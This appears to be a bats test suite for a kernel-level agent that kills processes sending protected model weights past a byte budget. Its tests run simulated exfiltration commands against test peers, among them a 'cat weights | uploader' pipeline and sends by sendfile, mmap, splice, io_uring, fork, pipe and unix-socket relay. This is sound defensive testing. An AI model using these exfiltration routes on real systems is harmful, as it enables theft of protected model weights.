#!/usr/bin/env bats
# Enforce mode: a tainted process may connect anywhere (a job downloads data
# and pushes metrics after loading the model); what it sends is judged, and
# one that sends the weights to a non-allowlisted destination, on a fresh or
# an old connection, is killed in the kernel and its socket stops carrying
# packets, so a sink never receives more than the budget.
# --deny-new-destinations brings back the strict policy: refused at connect.

load ../lib/harness

setup() { vigil_setup; }
teardown() { vigil_teardown; }

BUDGET=$((1 << 20))

# timed_leak ARGS...: leak under timed.py; sets status/output, records figures.
timed_leak() {
	run in_cg python3 "$LIB/timed.py" python3 "$EXFIL" "$@"
	local ms
	ms="$(echo "$output" | sed -n 's/.*"alive_after_first_send_ms": \([0-9.]*\).*/\1/p' | tail -1)"
	[ -z "$ms" ] || figure "alive after first send (ms)" "$ms"
}

# fresh_connect_killed PEER: a connection made after the read is let
# through (weights-connect: low context), the raw weights on it are killed
# at the budget, critical
fresh_connect_killed() {
	start_sink tcp
	start_agent --mode enforce
	timed_leak --src "$W/model.safetensors" --host "$1" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	figure "fresh connection: sink bytes (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	run alert_wait rule=weights-connect severity=low action=alert network.daddr="$1" mode=enforce
	[ "$status" -eq 0 ]
	run alert_wait action=killed severity=critical network.daddr="$1"
	[ "$status" -eq 0 ]
	run alert_none action=blocked rule=weights-connect
	[ "$status" -eq 0 ]
}

@test "enforce: a fresh connection after reading weights (IPv4) connects; the weights are killed at the budget" {
	fresh_connect_killed "$PEER4"
}

@test "enforce: a fresh connection after reading weights (IPv6) connects; the weights are killed at the budget" {
	fresh_connect_killed "$PEER6"
}

@test "enforce: unconnected UDP sendto after reading weights is dropped and killed at the budget" {
	start_sink udp
	start_agent --mode enforce
	timed_leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT" --udp
	[ "$status" -eq 137 ]
	got="$(sink_bytes "$PORT" udp)"
	figure "unconnected UDP: sink bytes (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	run alert_wait action=killed severity=critical network.protocol=udp network.daddr="$PEER4"
	[ "$status" -eq 0 ]
}

@test "enforce: --deny-new-destinations refuses a tainted connect and sendto (IPv4, IPv6, UDP), nothing leaves" {
	start_sink tcp
	start_sink udp
	start_agent --mode enforce --deny-new-destinations
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 3 ]
	[[ "$output" == *EPERM* ]]
	leak --src "$W/model.safetensors" --host "$PEER6" --port "$PORT"
	[ "$status" -eq 3 ]
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT" --udp
	[ "$status" -eq 3 ]
	[ "$(sink_bytes)" -eq 0 ]
	[ "$(sink_bytes "$PORT" udp)" -eq 0 ]
	run alert_wait rule=weights-connect action=blocked network.daddr="$PEER4" mode=enforce
	[ "$status" -eq 0 ]
	run alert_wait rule=weights-connect action=blocked network.daddr="$PEER6"
	[ "$status" -eq 0 ]
	run alert_wait action=blocked network.protocol=udp network.daddr="$PEER4"
	[ "$status" -eq 0 ]
	# an old connection still sends, judged at the budget
	timed_leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
}

# The ceiling where it now matters: a fresh connection, then a bulk send,
# repeated (each run its own protect set, so each starts with a full budget).
@test "enforce: fresh connection + bulk send, 12 runs (TCP v4/v6 sendall, 4 KiB writes, UDP): each killed at the budget" {
	start_sink tcp
	start_sink udp
	local i f got
	for i in $(seq 12); do
		mkdir -p "$T/runs/run$i"
		head -c $((3 << 20)) "$W/model.safetensors" > "$T/runs/run$i/w.safetensors"
	done
	{
		echo "protect:"
		for i in $(seq 12); do
			printf '  - name: run%s\n    paths: ["%s/runs/run%s/**"]\n' "$i" "$T" "$i"
		done
	} > "$T/runs.yaml"
	start_agent --mode enforce --rules "$T/runs.yaml"
	for i in $(seq 12); do
		f="$T/runs/run$i/w.safetensors"
		case $((i % 4)) in
		0) leak --src "$f" --host "$PEER4" --port "$PORT" ;;
		1) leak --src "$f" --host "$PEER6" --port "$PORT" ;;
		2) leak --via write --chunk 4096 --src "$f" --host "$PEER4" --port "$PORT" ;;
		3) leak --udp --src "$f" --host "$PEER4" --port "$PORT" ;;
		esac
		[ "$status" -eq 137 ]
	done
	# each run's delivery by its own connection (UDP: source), read after
	# all: a sink still draining one run under load charges nothing to the next
	local -a tcp udp
	mapfile -t tcp < <(sink_conns)
	mapfile -t udp < <(sink_conns "$PORT" udp)
	[ "${#tcp[@]}" -eq 9 ]
	[ "${#udp[@]}" -eq 3 ]
	for got in "${tcp[@]}" "${udp[@]}"; do
		figure "fresh connection: one run's sink bytes (budget $BUDGET)" "$got"
		[ "$got" -le "$BUDGET" ]
	done
	run alert_none kind=alert rule=budget_breach
	[ "$status" -eq 0 ]
}

@test "enforce: a socket connected before the read is killed at the budget (sendall)" {
	start_sink tcp
	start_agent --mode enforce
	timed_leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	figure "sink bytes (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	run alert_wait action=killed network.daddr="$PEER4" process.cmdline~--connect-first
	[ "$status" -eq 0 ]
}

# killed_at_budget VIA: a sender connected before it reads the weights
# (through VIA) is killed, and its peer got no more than the budget.
killed_at_budget() {
	start_sink tcp
	start_agent --mode enforce
	timed_leak --connect-first --via "$1" --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	figure "sink bytes (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
}

@test "enforce: pre-connected sendfile is killed at the budget" {
	killed_at_budget sendfile
	run alert_wait action=killed process.cmdline~"--via sendfile"
	[ "$status" -eq 0 ]
}

@test "enforce: a process that maps the weights is killed at the budget" {
	killed_at_budget mmap
	run alert_wait action=killed taint.chain.0.via=mmap process.cmdline~"--via mmap"
	[ "$status" -eq 0 ]
}

@test "enforce: pre-connected splice is killed at the budget" {
	killed_at_budget splice
}

@test "enforce: pre-connected small writes over IPv6 are killed at the budget" {
	start_sink tcp
	start_agent --mode enforce
	timed_leak --connect-first --via write --chunk 4096 --src "$W/model.safetensors" \
		--host "$PEER6" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	figure "sink bytes (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	run alert_wait action=killed network.family=ipv6
	[ "$status" -eq 0 ]
}

@test "enforce: connected UDP is dropped and killed at the budget" {
	start_sink udp
	start_agent --mode enforce
	timed_leak --connect-first --udp --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes "$PORT" udp)"
	figure "sink bytes (budget $BUDGET)" "$got"
	[ "$got" -le "$BUDGET" ]
	run alert_wait action=killed network.protocol=udp
	[ "$status" -eq 0 ]
}

@test "enforce: an io_uring reader's fresh connection is killed at the budget" {
	start_sink tcp
	start_agent --mode enforce
	run in_cg "$VIGIL_ROOT/.output/scenarios/uring_leak" "$W/model.safetensors" "$PEER4" "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run alert_wait action=killed severity=critical process.comm=uring_leak
	[ "$status" -eq 0 ]
}

@test "enforce: a forked child with an inherited connection is killed" {
	start_sink tcp
	start_agent --mode enforce
	leak --connect-first --child --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run alert_wait action=killed taint.chain.1.via=fork
	[ "$status" -eq 0 ]
}

@test "enforce: cat weights | uploader is stopped through the pipe" {
	start_sink tcp
	start_agent --mode enforce
	# Holding the read end of a pipe with weights in it already taints,
	# whoever runs first: the send is killed either way.
	run in_cg sh -c 'cat "$1" | python3 "$2" --connect-first --stdin --host "$3" --port "$4"' sh \
		"$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run alert_wait action=killed taint.chain.1.via=pipe taint.chain.0.comm=cat
	[ "$status" -eq 0 ]
}

@test "enforce: the budget is per protected set, across processes" {
	start_sink tcp
	start_agent --mode enforce
	# each sends 700 KiB: the first fits the 1 MiB budget, the second crosses it
	head -c $((700 << 10)) "$W/model.safetensors" > "$W/part1.bin"
	head -c $((700 << 10)) "$W/model.safetensors" > "$W/part2.bin"
	leak --connect-first --src "$W/part1.bin" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 0 ]
	leak --connect-first --src "$W/part2.bin" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
}

@test "enforce: --budget sets the byte limit" {
	start_sink tcp
	start_agent --mode enforce --budget 256KiB
	leak --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	got="$(sink_bytes)"
	[ "$got" -le $((256 << 10)) ]
}

@test "enforce: untainted, allowlisted and loopback traffic flows untouched" {
	start_sink tcp
	start_sink tcp $((PORT + 1000)) host
	start_agent --mode enforce --allow "$PEER4/32:$PORT"
	# random bytes from a process that never read weights
	leak --random $((4 << 20)) --host "$PEER6" --port "$PORT"
	[ "$status" -eq 0 ]
	# weights to an allowlisted destination
	leak --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 0 ]
	[ "$(sink_bytes)" -eq $((8 << 20)) ]
	# weights over loopback
	leak --src "$W/model.safetensors" --host 127.0.0.1 --port $((PORT + 1000))
	[ "$status" -eq 0 ]
	[ "$(sink_bytes $((PORT + 1000)))" -eq $((4 << 20)) ]
	stop_agent
	run alert_none kind=alert
	[ "$status" -eq 0 ]
}

@test "enforce: a tainted process outside the --cgroup scope is left alone" {
	start_sink tcp
	start_agent --mode enforce
	# not in $CG: the agent must neither see nor touch it
	run python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 0 ]
	[ "$(sink_bytes)" -eq $((4 << 20)) ]
	stop_agent
	run alert_none kind=alert
	[ "$status" -eq 0 ]
}

@test "enforce: a relay connected before the handoff is killed at the budget" {
	require_capability unix-dgram	# the unix socket's bytes taint the relay
	start_sink tcp
	start_agent --mode enforce
	in_cg python3 "$SCEN/unix_relay.py" relay "$T/relay.sock" "$PEER4" "$PORT" --connect-first &
	relay=$!
	for _ in $(seq 100); do [ -e "$T/relay.sock.ready" ] && break; sleep 0.05; done
	run in_cg python3 "$SCEN/unix_relay.py" send "$T/relay.sock" "$W/model.safetensors"
	[ "$status" -eq 0 ]
	# wait in this shell, not under `run`: run's subshell cannot collect a
	# relay the shell already reaped (it was killed early), and saw 127
	local rc=0
	wait "$relay" || rc=$?
	[ "$rc" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run alert_wait action=killed taint.chain.1.via=unix
	[ "$status" -eq 0 ]
}

@test "enforce: copying the weights first does not get them out" {
	start_sink tcp
	start_agent --mode enforce
	run in_cg sh -c 'cat "$1" > "$2"' sh "$W/model.safetensors" "$T/copy.bin"
	[ "$status" -eq 0 ]
	sleep 0.3
	leak --src "$T/copy.bin" --host "$PEER4" --port "$PORT"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run alert_wait action=killed severity=critical taint.sources.0.path="$W/model.safetensors" \
		taint.chain.1.via=file taint.chain.1.path="$T/copy.bin"
	[ "$status" -eq 0 ]
}
